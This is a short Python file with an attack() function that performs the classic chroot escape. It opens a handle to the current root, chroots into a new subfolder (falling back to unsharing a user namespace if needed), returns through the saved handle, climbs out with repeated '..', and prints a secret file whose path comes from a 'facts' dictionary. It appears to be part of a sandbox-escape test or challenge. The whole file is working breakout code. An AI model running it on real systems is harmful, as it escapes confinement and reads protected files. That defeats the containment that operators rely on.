"""Escapes from a root folder by the oldest trick: a second root below it, while a folder of the first one is open."""

import ctypes
import os


def attack(facts: dict[str, str]) -> None:
    os.mkdir("second")
    first = os.open("/", os.O_RDONLY)
    try:
        os.chroot("second")
    except OSError:
        ctypes.CDLL(None).unshare(0x10000000)
        os.chroot("second")
    os.fchdir(first)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    print(open(facts["secret_file"]).read())
